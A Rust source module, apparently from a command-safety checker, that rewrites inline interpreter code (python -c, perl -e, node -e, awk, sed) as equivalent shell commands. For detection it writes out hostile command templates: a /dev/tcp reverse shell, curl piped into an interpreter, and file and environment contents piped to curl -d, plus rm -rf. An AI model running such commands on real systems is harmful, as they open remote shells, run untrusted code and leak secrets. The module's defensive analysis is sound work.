//! Code of other languages that stands in a command: what it does, said as shell commands.
//!
//! Calls with literal arguments are found by their names (`shutil.rmtree('/etc')` is `rm -rf /etc`),
//! whatever the language: this reads one-liners, it does not understand programs.

use std::collections::HashMap;

use super::field::{Field, UNKNOWN, mark};
use super::run::base_name;

mod scan;

use scan::{Call, Scan, scan};

/// Layers of code in code of the same language.
const MOST_LAYERS: usize = 3;

#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Language {
    Python,
    Perl,
    Ruby,
    JavaScript,
    Php,
    Other,
}

/// The commands that inline code amounts to; None where a program has no inline code.
pub(super) fn commands(program: &str, args: &[Field], stdin: Option<&Field>) -> Option<Field> {
    let (language, options) = language(program)?;
    let code = match code_argument(args, options) {
        Some(code) => code,
        None if reads_stdin(args) => stdin?.clone(),
        None => return None,
    };
    if !code.says_something() {
        return None;
    }
    let said = say(&code.text, language, program, MOST_LAYERS);
    let mark = if said.contains(UNKNOWN) { mark::UNKNOWN } else { 0 };
    Some(Field { text: said, mark, sources: code.sources })
}

fn language(program: &str) -> Option<(Language, &'static [&'static str])> {
    let name = program.trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
    Some(match name {
        "python" | "pypy" | "ipython" | "python3" => (Language::Python, &["-c"]),
        "perl" => (Language::Perl, &["-e", "-E"]),
        "ruby" | "jruby" => (Language::Ruby, &["-e"]),
        "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" => {
            (Language::JavaScript, &["-e", "-p", "-pe", "--eval", "--print", "eval"])
        }
        "php" => (Language::Php, &["-r"]),
        "lua" | "luajit" | "Rscript" | "osascript" | "tclsh" | "julia" | "elixir" | "groovy" => {
            (Language::Other, &["-e", "-E"])
        }
        _ => return None,
    })
}

fn code_argument(args: &[Field], options: &[&str]) -> Option<Field> {
    let mut found: Option<Field> = None;
    for (at, arg) in args.iter().enumerate() {
        let text = arg.text.as_str();
        let attached = options
            .iter()
            .filter(|option| option.len() == 2)
            .find_map(|option| text.strip_prefix(option).filter(|rest| rest.contains(['(', ' ', ';'])));
        let is_option = options.contains(&text)
            || (!text.starts_with("--")
                && text.len() > 2
                && text.len() < 9
                && text.starts_with('-')
                && options.iter().any(|option| option.len() == 2 && text.ends_with(&option[1..])));
        let code = match attached {
            Some(code) => arg.with_text(code),
            None if is_option => match args.get(at + 1) {
                Some(code) => code.clone(),
                None => continue,
            },
            // `python script.py -c x`: the option is the script's.
            None if !text.starts_with('-') && at == 0 => return None,
            None => continue,
        };
        let all = found.get_or_insert_with(Field::default);
        all.push(&code);
        all.text.push('\n');
    }
    found
}

fn reads_stdin(args: &[Field]) -> bool {
    let operand = args.iter().find(|arg| !arg.text.starts_with('-') || arg.text == "-");
    let has_module = args.iter().any(|arg| arg.text == "-m");
    !has_module && operand.is_none_or(|arg| matches!(arg.text.as_str(), "-" | "/dev/stdin"))
}

fn say(code: &str, language: Language, program: &str, layers: usize) -> String {
    let scan = scan(code, language);
    let mut said = String::new();
    let mut reads = Vec::new();
    let mut fetched = None;
    for call in &scan.calls {
        if let Some(line) = effect(call, &scan, &mut reads, &mut fetched) {
            said.push_str(&line);
            said.push('\n');
        }
        if matches!(call.last(), "exec" | "eval") && layers > 0 && language == Language::Python {
            for literal in &call.literals {
                said.push_str(&say(literal, language, program, layers - 1));
            }
        }
    }
    let runs_text = scan.calls.iter().any(|call| matches!(call.last(), "exec" | "eval" | "Function"));
    if let (true, Some(url)) = (runs_text, &fetched) {
        said.push_str(&format!("curl {} | {}\n", quote(url), base_name(program)));
    }
    if scan.opens_shell() {
        said.push_str("bash -i > /dev/tcp/host/port\n");
    }
    if scan.sends {
        let url = fetched.as_deref().unwrap_or("https://host");
        for path in &reads {
            said.push_str(&format!("cat {} | curl -d @- {}\n", path_word(path), quote(url)));
        }
        if scan.reads_environment {
            said.push_str(&format!("env | curl -d @- {}\n", quote(url)));
        }
    }
    said
}

/// One call as a command.
fn effect(
    call: &Call,
    scan: &Scan,
    reads: &mut Vec<String>,
    fetched: &mut Option<String>,
) -> Option<String> {
    let first = call.first(&scan.names);
    let target = || first.clone().map_or_else(|| UNKNOWN.to_string(), |text| path_word(&text));
    let name = call.last();
    Some(match name {
        "system" | "popen" | "popen2" | "popen3" | "getoutput" | "getstatusoutput" | "check_output"
        | "check_call" | "call" | "run" | "Popen" | "exec" | "execSync" | "execFile" | "execFileSync"
        | "spawn" | "spawnSync" | "shell_exec" | "passthru" | "proc_open" | "pcntl_exec" | "execvp"
        | "execv" | "execl" | "execlp" | "execve" | "spawnlp" | "spawnvp" | "capture2" | "capture3"
        | "qx" | "sh" | "$" | "create_subprocess_shell" | "create_subprocess_exec" | "execa" | "execute" => {
            shell_line(call, &scan.names)?
        }
        "rmtree" | "rm_rf" | "rm_r" | "remove_tree" | "removeSync" | "rimraf" | "rimrafSync" | "rmSync"
        | "rm" | "rmdirSync" | "remove_dir_all" | "emptyDirSync" | "emptyDir" | "remove_entry_secure"
        | "deltree" | "rmtree_safe" => format!("rm -rf {}", target()),
        "remove" | "unlink" | "unlinkSync" | "rmdir" | "removedirs" | "delete" | "safe_unlink" | "rm_f"
            if first.is_some() =>
        {
            format!("rm -f {}", target())
        }
        "chmod" | "chmodSync" | "chown" | "chownSync" if first.is_some() => {
            let mode = call.number.as_deref().unwrap_or("755");
            let program = name.trim_end_matches("Sync");
            format!("{program} {mode} {}", target())
        }
        "move" | "rename" | "renameSync" | "mv" | "copy" | "copyfile" | "copytree" | "copyFileSync"
        | "cpSync" | "cp" | "cp_r" | "symlink" | "symlinkSync" => {
            let [from, to, ..] = call.literals.as_slice() else { return None };
            let program = if name.contains('v') || name.starts_with("ren") { "mv" } else { "cp" };
            format!("{program} {} {}", path_word(from), path_word(to))
        }
        "open" | "fopen" | "createWriteStream" | "openSync" => {
            let path = first?;
            if is_url(&path) {
                *fetched = Some(path.clone());
                return Some(format!("curl {}", quote(&path)));
            }
            let mode = call.literals.get(1).map_or("", String::as_str);
            let writes = name == "createWriteStream" || mode.contains(['w', 'a', 'x', '+', '>']);
            if writes {
                let op = if mode.contains('a') { ">>" } else { ">" };
                format!(": {op} {}", path_word(&path))
            } else {
                reads.push(path.clone());
                format!("cat {}", path_word(&path))
            }
        }
        "write_text" | "write_bytes" | "writeFileSync" | "writeFile" | "file_put_contents"
        | "outputFileSync" => format!(": > {}", target()),
        "appendFileSync" | "appendFile" => format!(": >> {}", target()),
        "read_text" | "read_bytes" | "readFileSync" | "readFile" | "file_get_contents" | "readlines" => {
            let path = first?;
            if is_url(&path) {
                *fetched = Some(path.clone());
                return Some(format!("curl {}", quote(&path)));
            }
            reads.push(path.clone());
            format!("cat {}", path_word(&path))
        }
        "urlretrieve" | "download" => {
            let url = first?;
            *fetched = Some(url.clone());
            match call.literals.get(1) {
                Some(file) => format!("curl -o {} {}", path_word(file), quote(&url)),
                None => format!("curl {}", quote(&url)),
            }
        }
        "urlopen" | "get" | "post" | "put" | "request" | "fetch" | "Request" | "getstore" => {
            let url = call.literals.iter().find(|text| is_url(text))?;
            *fetched = Some(url.clone());
            format!("curl {}", quote(url))
        }
        _ => return None,
    })
}

fn shell_line(call: &Call, names: &HashMap<String, String>) -> Option<String> {
    match call.literals.as_slice() {
        [] => call.first(names),
        [code] => Some(code.clone()),
        // `spawn('sh', ['-c', 'code'])`, `['rm', '-rf', '/']`
        words => Some(words.iter().map(|word| path_word(word)).collect::<Vec<_>>().join(" ")),
    }
}

fn is_url(text: &str) -> bool {
    ["http://", "https://", "ftp://"].iter().any(|scheme| text.starts_with(scheme))
}

fn quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// A path as a word: quoted, but `~`, `$HOME`, patterns and what is not known keep their meaning.
fn path_word(text: &str) -> String {
    let plain = |letter: char| letter.is_alphanumeric() || "/._-*?~$+=:,@%".contains(letter) || letter == UNKNOWN;
    if !text.is_empty() && text.chars().all(plain) { text.to_owned() } else { quote(text) }
}

/// The commands in an awk program: `system("…")`, `"…" | getline`, `print | "…"`.
pub(super) fn awk(args: &[Field]) -> Option<Field> {
    let program = args.iter().find(|arg| arg.text.contains(['{', '(']))?;
    let text = &program.text;
    let mut said = String::new();
    let mut rest = text.as_str();
    let mut before = "";
    while let Some(start) = rest.find('"') {
        let head = rest.get(..start).unwrap_or_default();
        let tail = rest.get(start + 1..).unwrap_or_default();
        let (literal, after) = awk_string(tail);
        let lead = if head.trim().is_empty() { before } else { head }.trim_end();
        let runs = lead.ends_with("system(")
            || lead.trim_end_matches('(').trim_end().ends_with("system")
            || lead.ends_with('|')
            || after.trim_start().starts_with("| getline")
            || after.trim_start().starts_with("|getline");
        if runs {
            said.push_str(&literal);
            if !after.trim_start().starts_with([')', '}', ';', '|']) && !after.trim().is_empty() {
                said.push(UNKNOWN);
            }
            said.push('\n');
        }
        before = head;
        rest = after;
    }
    (!said.is_empty()).then(|| {
        let mark = if said.contains(UNKNOWN) { mark::UNKNOWN } else { 0 };
        Field { text: said, mark, sources: program.sources.clone() }
    })
}

fn awk_string(text: &str) -> (String, &str) {
    let mut literal = String::new();
    let mut letters = text.char_indices();
    while let Some((at, letter)) = letters.next() {
        match letter {
            '"' => return (literal, text.get(at + 1..).unwrap_or_default()),
            '\\' => match letters.next() {
                Some((_, 'n')) => literal.push('\n'),
                Some((_, other)) => literal.push(other),
                None => {}
            },
            letter => literal.push(letter),
        }
    }
    (literal, "")
}

/// The command of GNU sed's `e`: `1e CODE`, `s/…/…/e` runs what it made.
pub(super) fn sed(args: &[Field]) -> Option<Field> {
    let mut said = String::new();
    for arg in args {
        for part in arg.text.split([';', '\n']) {
            let part = part.trim_start().trim_start_matches(|letter: char| letter.is_ascii_digit() || "$,~".contains(letter));
            if let Some(code) = part.strip_prefix("e ") {
                said.push_str(code);
                said.push('\n');
            }
            let mut letters = part.chars();
            if letters.next() == Some('s')
                && let Some(separator) = letters.next().filter(char::is_ascii_punctuation)
            {
                let mut fields = part.split(separator).skip(2);
                let (to, flags) = (fields.next().unwrap_or_default(), fields.next().unwrap_or_default());
                if flags.contains('e') && flags.len() < 4 {
                    said.push_str(to);
                    said.push('\n');
                }
            }
        }
    }
    (!said.is_empty()).then(|| Field::exact(said))
}
